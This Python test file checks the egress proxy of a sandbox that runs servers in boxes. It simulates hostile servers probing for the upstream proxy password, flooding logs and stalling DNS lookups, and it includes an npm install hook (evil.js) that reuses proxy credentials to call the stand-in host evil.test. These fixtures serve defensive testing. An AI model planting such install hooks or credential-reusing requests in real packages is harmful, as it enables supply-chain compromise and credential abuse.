"""What got through the egress proxy, done by servers in their sandboxes, by way of the relay that they have there."""
import base64
import json
import os
import socket
import subprocess
import threading
import time
import unittest

from attack import Attack, SERVER
from egress_names_test import serve_names
from egress_proxy import Listener, head_of
from program import MCPBOX

PASSWORD = "Tr0ub4dor"
CREDENTIAL = base64.b64encode(f"user:{PASSWORD}".encode()).decode()
ASK = """
import base64, os, socket, urllib.parse
proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
login = base64.b64encode(f"{proxy.username}:{proxy.password}".encode()).decode()
def send(request, headers=""):
    link = socket.create_connection((proxy.hostname, proxy.port), 20)
    link.sendall(f"{request} HTTP/1.1\\r\\nHost: x.test\\r\\n"
                 f"Proxy-Authorization: Basic {login}\\r\\n{headers}\\r\\n".encode())
    return link
def ask(request, headers=""):
    with send(request, headers) as link:
        answer = b""
        while piece := link.recv(65536): answer += piece
    return answer.decode(errors="replace")
"""
# A script of npm's that is run while its package is installed.
INSTALL = """
const {request} = require("http");
const proxy = new URL(process.env.HTTPS_PROXY);
const login = Buffer.from(`${proxy.username}:${proxy.password}`).toString("base64");
request({host: proxy.hostname, port: proxy.port, path: "http://evil.test/",
  headers: {Host: "evil.test", "Proxy-Authorization": `Basic ${login}`}}, answer => {
  let text = `${answer.statusCode} `;
  answer.on("data", piece => text += piece);
  answer.on("end", () => require("fs").writeFileSync("vmod/said.js", `module.exports = ${JSON.stringify(text)}`));
}).end();
"""


class Servers(Attack):
    def over(self, networks, before=(), **egress):
        """A daemon with a server for each of these networks."""
        self.configure({name: {**SERVER, "box": {"network": network}} for name, network in networks.items()},
                       egress=egress)
        daemon = subprocess.Popen([*before, MCPBOX, "serve", "--engine", self.engine, "-c", self.home.config],
                                  stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE,
                                  env=self.home.env)
        self.home.started.append(daemon)
        self.all_answer(networks, 90)
        for name in networks:
            self.py(name, ASK)

    def mirror(self, status):
        """An upstream proxy that sends back what it got."""
        def reflect(listener, connection):
            listener.seen.append(head_of(connection))
            connection.sendall(f"HTTP/1.1 {status} x\r\nContent-Length: {len(listener.seen[-1])}\r\n\r\n"
                               f"{listener.seen[-1]}".encode())
        listener = Listener(reflect)
        self.addCleanup(listener.close)
        return listener

    def test_nothing_that_comes_back_has_the_password_of_the_upstream_proxy(self):
        mirror = self.mirror(403)
        self.over({"curious": {"allow": ["a.test"]}}, upstream_proxy=f"http://user:{PASSWORD}@127.0.0.1:{mirror.port}")
        for request in ("TRACE http://a.test/", "GET http://a.test/", "CONNECT a.test:80"):
            for headers in ("", "Max-Forwards: 0\\r\\n"):
                with self.subTest(request=request, headers=headers):
                    answer = self.py("curious", f"print(ask('{request}', '{headers}'))")
                    self.assertIn("HTTP/1.1", answer)
                    self.assertNotIn(CREDENTIAL, answer)
        self.assertTrue(any(CREDENTIAL in head for head in mirror.seen), "the proxy itself gets it")
        self.assertEqual({head.split(" ")[0] for head in mirror.seen}, {"CONNECT"})

    def test_refusals_of_one_server_leave_room_for_the_lines_of_others(self):
        self.over({"loud": {}, "quiet": {}})
        self.py("quiet", "ask('CONNECT quiet.test:443')")
        self.py("loud", "for i in range(2000): ask(f'CONNECT e{i // 2 % 1000}.test:443')", 120)
        self.home.run("down", "--engine", self.engine, timeout=120)
        self.home.started[0].communicate(timeout=60)
        lines = [json.loads(line) for path in (self.home.root / "state" / "egress").glob("egress.jsonl*")
                 for line in path.read_text().splitlines()]
        self.assertEqual([line["host"] for line in lines if line["server"] == "quiet"], ["quiet.test"])
        loud = [line for line in lines if line["server"] == "loud"]
        self.assertLess(len(loud), 500, "lines of the loud one")
        self.assertEqual(sum(line["count"] for line in loud), 2000, "each is counted")

    @unittest.skipUnless(os.geteuid() == 0, "needs a resolv.conf of its own")
    def test_a_neighbours_name_is_looked_up_while_those_of_others_wait(self):
        names = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.addCleanup(names.close)
        for last in range(100, 250):
            try:
                names.bind((f"127.77.54.{last}", 53))
                break
            except OSError:
                continue
        threading.Thread(target=serve_names, args=(names,), daemon=True).start()
        conf = self.home.root / "resolv.conf"
        conf.write_text(f"nameserver {names.getsockname()[0]}\n")
        hostile = [f"hostile{i}" for i in range(6)]
        self.over({name: "public" for name in (*hostile, "victim")},
                   before=["unshare", "-m", "--propagation", "private", "sh", "-c",
                           'mount --bind "$0" /etc/resolv.conf && exec "$@"', str(conf)])
        for name in hostile:
            self.py(name, f"waiting = [send(f'CONNECT silent.{{i}}.{name}.test:443') for i in range(30)]")
        for i in range(3):
            begin = time.monotonic()
            said = self.py("victim", f"print(ask('CONNECT victim{i}.test:443'))")
            self.assertIn("cannot resolve", said)
            self.assertLess(time.monotonic() - begin, 4, "seconds")

    def test_no_public_host_is_reached_while_something_is_installed(self):
        # The whole internet, behind a company's proxy.
        internet = Listener(lambda listener, connection: listener.seen.append(head_of(connection).split("\r\n")[0]))
        self.addCleanup(internet.close)
        folder = self.home.root / "p"
        (folder / "vmod").mkdir(parents=True)
        (folder / "package.json").write_text(json.dumps({
            "name": "p", "version": "1.0.0", "dependencies": {"vmod": "file:./vmod"},
            "scripts": {"install": "node evil.js"}}))
        (folder / "evil.js").write_text(INSTALL)
        (folder / "vmod" / "package.json").write_text('{"name": "vmod", "version": "1.0.0", "main": "said.js"}')
        (folder / "vmod" / "said.js").write_text("module.exports = 'nothing'")
        (folder / "server.js").write_text("console.log(require('vmod'))\n")
        env = {**self.home.env, "HTTPS_PROXY": f"http://127.0.0.1:{internet.port}"}
        ended = self.home.run("run", "--engine", self.engine, "--direct", "--network", "public", "--stage", str(folder),
                              "--", "node", str(folder / "server.js"), env=env, timeout=150)
        self.assertEqual([line for line in internet.seen if "evil.test" in line], [], ended)
        self.assertRegex(ended.stdout, "^403 .*--install-allow", ended)


if __name__ == "__main__":
    unittest.main()
